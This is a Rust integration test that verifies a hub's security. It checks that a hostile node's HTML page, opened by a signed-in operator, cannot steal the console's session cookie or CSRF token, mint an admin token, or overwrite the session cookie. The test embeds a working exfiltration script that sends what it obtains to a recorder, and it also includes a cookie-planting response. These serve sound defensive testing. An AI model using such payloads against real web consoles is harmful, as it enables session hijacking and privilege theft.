//! A node is untrusted content: a page it serves through the hub, opened
//! by a signed-in operator, must not act as the console. Real headless
//! Chromium signs in to the console (on its own listener), then opens a
//! hostile node's HTML page at `/one/evil/n/page?x-jwt=…`; the page's
//! script tries to read the session's cookie and anti-forgery token and to
//! mint an admin token, on the console's origin and on its own, and
//! reports whatever it got to a recorder of the test. A second page of the
//! node tries to replace the console's session cookie with its own.
//!
//! Screenshots: `target/console-screenshots/takeover-*.png`.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use bytes::Bytes;
use http::Response;
use http_body_util::Full;
use mediator_tests::harness::webdriver::Browser;
use serde_json::Value;

use crate::support::{
    answering_node, as_strs, free_port, hash_password, raw, register_node, serve_args, token_for,
    Process,
};

/// The operator's password for this run.
const PASSWORD: &str = "the operator's console password";
/// The session cookie's name.
const COOKIE: &str = "mediator_session";
/// The origin the node's CORS headers would open the hub to.
const NODE_ORIGIN: &str = "http://evil.example";
/// The cookie the node tries to plant in place of the operator's.
const PLANTED: &str = "planted-by-a-node";

/// The node's page: beacons to the recorder that it was rendered (an
/// image, which loads even where scripts may not run), and a script that
/// tries to take the console over and reports what it got.
fn evil_page(console: &str, recorder: SocketAddr) -> String {
    format!(
        r#"<!doctype html><html><head><title>evil</title></head><body>
<h1>A node's page</h1>
<img src="http://{recorder}/rendered" alt="">
<script>
(async () => {{
  const report = {{ origin: String(location.origin), cookie: document.cookie, tries: [] }};
  for (const base of ['', '{console}']) {{
    const tried = {{ base }};
    try {{
      const s = await fetch(base + '/console/api/session', {{ credentials: 'include' }});
      tried.session_status = s.status;
      const session = await s.json();
      tried.csrf = session.csrf;
      const m = await fetch(base + '/console/api/token', {{
        method: 'POST', credentials: 'include',
        headers: {{ 'content-type': 'application/json', 'x-csrf-token': session.csrf }},
        body: JSON.stringify({{ admin: true, ttl_s: 2592000 }}),
      }});
      tried.mint_status = m.status;
      tried.minted = (await m.json()).token;
    }} catch (e) {{
      tried.error = String(e);
    }}
    report.tries.push(tried);
  }}
  await fetch('http://{recorder}/report', {{ method: 'POST', mode: 'no-cors', body: JSON.stringify(report) }});
}})();
</script></body></html>"#
    )
}

/// Every request that reached the recorder: `METHOD path` and its body.
type Heard = Arc<Mutex<Vec<String>>>;

async fn recorder() -> (SocketAddr, Heard) {
    let heard: Heard = Arc::default();
    let sink = Arc::clone(&heard);
    let addr = answering_node(move |parts, body| {
        sink.lock().unwrap().push(format!(
            "{} {} {}",
            parts.method,
            parts.uri,
            String::from_utf8_lossy(body)
        ));
        Response::builder()
            .status(204)
            .header("access-control-allow-origin", "*")
            .body(Full::new(Bytes::new()))
            .unwrap()
    })
    .await;
    (addr, heard)
}

/// Runs a same-origin request from the page with a synchronous XHR (the
/// page's own credentials); its status and text.
async fn from_page(browser: &Browser, method: &str, path: &str) -> (u64, String) {
    let answer = browser
        .execute(
            "const x = new XMLHttpRequest(); x.open(arguments[0], arguments[1], false); \
             x.send(); return [x.status, x.responseText];",
            vec![Value::from(method), Value::from(path)],
        )
        .await;
    (
        answer[0].as_u64().unwrap_or(0),
        answer[1].as_str().unwrap_or_default().to_owned(),
    )
}

async fn session_cookie(browser: &Browser) -> Option<String> {
    browser
        .cookies()
        .await
        .iter()
        .find(|c| c["name"] == COOKIE)
        .and_then(|c| c["value"].as_str().map(ToOwned::to_owned))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_nodes_html_page_cannot_act_as_the_console() {
    let dir = tempfile::tempdir().unwrap();
    let hash = hash_password(dir.path(), PASSWORD);
    let api = SocketAddr::from(([127, 0, 0, 1], free_port()));
    let console_addr = SocketAddr::from(([127, 0, 0, 1], free_port()));
    let console = format!("http://{console_addr}");
    let mut args = serve_args(api.port(), "memory");
    args.extend([
        "--console-listen".to_owned(),
        console_addr.to_string(),
        "--operator-password-hash".to_owned(),
        hash,
    ]);
    let log = dir.path().join("mediator.log");
    let _hub = Process::start_logged(dir.path(), &as_strs(&args), "mediator console on", &log);

    let (recorder, heard) = recorder().await;
    let page = evil_page(&console, recorder);
    let node = answering_node(move |parts, _| {
        let planting = parts.uri.path().ends_with("/cookie");
        let mut reply = Response::builder()
            .header("content-type", "text/html; charset=utf-8")
            .header("access-control-allow-origin", NODE_ORIGIN)
            .header("access-control-allow-credentials", "true");
        if planting {
            reply = reply
                .header("set-cookie", format!("{COOKIE}={PLANTED}; Path=/"))
                .header("clear-site-data", "\"cookies\"");
        }
        reply
            .body(Full::new(Bytes::from(if planting {
                "<!doctype html><p>cookie planted</p>".to_owned()
            } else {
                page.clone()
            })))
            .unwrap()
    })
    .await;
    register_node(api, dir.path(), "evil/n", node).await;
    let token = token_for(dir.path(), "evil/n");
    let page_url = format!("http://{api}/one/evil/n/page?x-jwt={token}");
    let cookie_url = format!("http://{api}/one/evil/n/cookie?x-jwt={token}");

    // What the hub relays of the node's page, seen by a plain client.
    let relayed = raw(
        api,
        format!(
            "GET /one/evil/n/cookie?x-jwt={token} HTTP/1.1\r\nhost: {api}\r\n\
             connection: close\r\n\r\n"
        )
        .into_bytes(),
        Duration::from_secs(10),
    )
    .await
    .unwrap();
    assert_eq!(relayed.status, 200, "{}", relayed.head);
    for (name, value) in [
        ("content-security-policy", "sandbox"),
        ("x-content-type-options", "nosniff"),
        ("referrer-policy", "no-referrer"),
    ] {
        assert_eq!(
            relayed.header(name).as_deref(),
            Some(value),
            "{}",
            relayed.head
        );
    }
    // The hub's own `access-control-allow-origin: *` (the original's, on
    // every reply) lets no credentials through; the node's may not stand.
    assert_ne!(
        relayed.header("access-control-allow-origin").as_deref(),
        Some(NODE_ORIGIN),
        "the node's access-control-allow-origin was relayed: {}",
        relayed.head
    );
    for name in [
        "set-cookie",
        "clear-site-data",
        "access-control-allow-credentials",
    ] {
        assert_eq!(
            relayed.header(name),
            None,
            "the node's {name} was relayed: {}",
            relayed.head
        );
    }
    // The API's listener serves no console.
    for path in ["/", "/console/api/session", "/console/console.js"] {
        let answer = raw(
            api,
            format!("GET {path} HTTP/1.1\r\nhost: {api}\r\nconnection: close\r\n\r\n").into_bytes(),
            Duration::from_secs(5),
        )
        .await
        .unwrap();
        assert_eq!(answer.status, 404, "GET {path} on the API: {}", answer.head);
    }

    // The operator signs in to the console.
    let browser = Browser::start(1280, 900).await;
    browser.goto(&format!("{console}/")).await;
    let password = browser.wait_for("#password").await;
    browser.fill(&password, PASSWORD).await;
    browser.keys("\u{E007}").await;
    browser.wait_for("#node-table").await;
    browser
        .wait_until(
            "the session is read",
            "return document.getElementById('who').textContent.includes('signed in');",
        )
        .await;
    browser.wait_for("tr[data-key=\"evil/n\"]").await;
    browser.screenshot("takeover-1-signed-in").await;
    let session = session_cookie(&browser)
        .await
        .expect("the console's session cookie");
    let (status, text) = from_page(&browser, "GET", "/console/api/session").await;
    assert_eq!(status, 200, "{text}");
    let csrf = serde_json::from_str::<Value>(&text).unwrap()["csrf"]
        .as_str()
        .expect("the session's anti-forgery token")
        .to_owned();

    // The operator opens the node's page.
    browser.goto(&page_url).await;
    let started = Instant::now();
    while !heard
        .lock()
        .unwrap()
        .iter()
        .any(|r| r.contains("/rendered"))
    {
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "the node's page never rendered; the recorder heard {:?}",
            heard.lock().unwrap()
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    // Room for a script, had one run, to try everything and report.
    tokio::time::sleep(Duration::from_secs(3)).await;
    browser.screenshot("takeover-2-node-page").await;
    let heard_now = heard.lock().unwrap().clone();
    eprintln!("the recorder heard: {heard_now:#?}");
    for request in &heard_now {
        assert!(
            !request.contains(&csrf),
            "the node's page read the console session's anti-forgery token: {request}"
        );
        assert!(
            !request.contains(&session),
            "the node's page read the console's session cookie: {request}"
        );
        let Some(report) = request.strip_prefix("POST /report ") else {
            continue;
        };
        let report: Value = serde_json::from_str(report).unwrap_or(Value::Null);
        for tried in report["tries"].as_array().into_iter().flatten() {
            assert!(
                tried["csrf"].is_null() && tried["minted"].is_null(),
                "the node's page acted as the console: {tried}"
            );
        }
    }
    let logged = std::fs::read_to_string(&log).unwrap();
    assert!(
        !logged.contains("token minted"),
        "a token was minted while the node's page was open:\n{logged}"
    );

    // The node's second page tries to replace the operator's session.
    browser.goto(&cookie_url).await;
    browser.goto(&format!("{console}/")).await;
    assert_eq!(
        session_cookie(&browser).await.as_deref(),
        Some(session.as_str()),
        "the console's session cookie changed after the node's pages"
    );
    browser.wait_for("#node-table").await;
    browser
        .wait_until(
            "the session is read again",
            "return document.getElementById('who').textContent.includes('signed in');",
        )
        .await;
    browser.screenshot("takeover-3-console-after").await;
    let (status, text) = from_page(&browser, "GET", "/console/api/session").await;
    assert_eq!(status, 200, "the console session no longer works: {text}");
    assert_eq!(
        serde_json::from_str::<Value>(&text).unwrap()["csrf"],
        csrf.as_str()
    );
    browser.quit().await;
}
